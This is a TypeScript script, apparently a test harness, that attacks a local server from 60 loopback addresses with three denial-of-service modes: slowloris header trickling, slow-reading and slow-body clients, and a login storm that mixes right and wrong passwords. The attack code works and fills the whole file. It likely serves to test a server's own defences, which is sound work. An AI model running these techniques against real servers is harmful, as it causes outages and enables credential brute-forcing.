// Attacks a server from many addresses of this computer until it is killed: `attacker.ts KIND ORIGIN`.
// `TOKEN`: of an account whose answers are large, for slow clients.
import { request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

const [kind = '', origin = ''] = process.argv.slice(2);
const { port, host } = new URL(origin);
const token = process.env['TOKEN'] ?? '';

/** Addresses of this computer, as if of different clients. */
const ADDRESSES = 60;
const getAddress = (number: number): string => `127.0.2.${1 + (number % ADDRESSES)}`;

/** Opens a connection again whenever it ends, and lets `use` write to it. */
function keepOpen(number: number, use: (socket: Socket) => void): void {
  const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: getAddress(number) });
  socket.once('connect', () => use(socket));
  socket.on('error', () => undefined);
  socket.once('close', () => setTimeout(() => keepOpen(number, use), 200));
}

/** Sends a header field per second, and never the end. */
function sendSlowHeaders(socket: Socket): void {
  socket.resume();
  socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\n`);
  const timer = setInterval(() => socket.write(`X-${Date.now()}: 1\r\n`), 1000);
  socket.once('close', () => clearInterval(timer));
}

/** Asks for a large answer, and never reads it. */
function readNothing(socket: Socket): void {
  socket.pause();
  socket.write(`GET /api/ytgetdata HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\n\r\n`);
}

/** Sends a byte of a body per second. */
function sendSlowBody(socket: Socket): void {
  socket.resume();
  socket.write(
    `POST /api/paste HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{`,
  );
  const timer = setInterval(() => socket.write(' '), 1000);
  socket.once('close', () => clearInterval(timer));
}

/** Logs in again and again. @returns the status. */
function logIn(number: number, username: string, password: string): Promise<number> {
  const { promise, resolve } = Promise.withResolvers<number>();
  const body = JSON.stringify({ username, password });
  const headers = { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) };
  request(
    `${origin}/api/log`,
    { method: 'POST', localAddress: getAddress(number), headers, agent: false },
    (answer) => {
      answer.resume();
      answer.once('close', () => resolve(answer.statusCode ?? 0));
    },
  )
    .once('error', () => resolve(0))
    .end(body);
  return promise;
}

const counts: Record<number, number> = {};
async function storm(number: number): Promise<void> {
  for (let round = 0; ; round += 1) {
    const isRight = number % 2 === 0;
    const status = await logIn(
      number + round,
      isRight ? `user${number % 20}` : `name${(number * 31 + round) % 500}`,
      isRight ? 'correct horse staple' : 'wrong password',
    );
    counts[status] = (counts[status] ?? 0) + 1;
    await sleep(5);
  }
}

const ATTACKS: Readonly<Record<string, () => void>> = {
  slowloris: () => {
    for (let number = 0; number < 1800; number += 1) keepOpen(number, sendSlowHeaders);
  },
  slowClients: () => {
    for (let number = 0; number < 400; number += 1) keepOpen(number, number % 2 === 0 ? readNothing : sendSlowBody);
  },
  loginStorm: () => {
    for (let number = 0; number < 100; number += 1) void storm(number);
  },
};
ATTACKS[kind]?.();
process.once('SIGTERM', () => {
  process.stdout.write(`${JSON.stringify(counts)}\n`, () => process.exit());
});
